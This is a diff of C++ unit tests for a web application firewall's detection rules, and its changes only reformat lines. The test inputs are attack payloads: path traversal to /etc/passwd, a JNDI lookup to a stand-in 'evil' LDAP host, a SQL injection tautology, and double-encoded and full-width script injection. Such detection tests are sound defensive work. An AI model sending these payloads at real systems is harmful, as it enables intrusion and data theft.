@@ -100,7 +100,8 @@ TEST(NativeRules, OnlyTheEnabledTokenisersRun) {
   EXPECT_TRUE(inspect(api(), "GET", "/items?f=../../../../etc/passwd").fired(9700400));
   EXPECT_TRUE(inspect(api(), "GET", "/items?x=%24%7Bjndi:ldap://evil/a%7D").fired(9700500));
   EXPECT_EQ(inspect(crs(), "GET", "/items?id=1%27%20OR%20%271%27%3D%271").rules,
-            std::vector<std::uint32_t>{}) << "no native rule without waf.native";
+            std::vector<std::uint32_t>{})
+      << "no native rule without waf.native";
 }
 
 TEST(DecodedViews, Base64WrappedInjectionInJsonIsFoundAndMarked) {
@@ -123,8 +124,8 @@ TEST(DecodedViews, Base64WrappedInjectionInJsonIsFoundAndMarked) {
 }
 
 TEST(DecodedViews, DoubleEncodingAndFullWidthAreSeenThrough) {
-  EXPECT_TRUE(inspect(api(), "GET", "/q?s=%253Cscript%253Ealert(1)%253C%252Fscript%253E")
-                  .fired(9700200));
+  EXPECT_TRUE(
+      inspect(api(), "GET", "/q?s=%253Cscript%253Ealert(1)%253C%252Fscript%253E").fired(9700200));
   // ＜ｓｃｒｉｐｔ＞ａｌｅｒｔ(1)＜/ｓｃｒｉｐｔ＞ in full-width forms.
   EXPECT_TRUE(inspect(api(), "GET",
                       "/q?s=%EF%BC%9C%EF%BD%93%EF%BD%83%EF%BD%92%EF%BD%89%EF%BD%90%EF%BD%94"
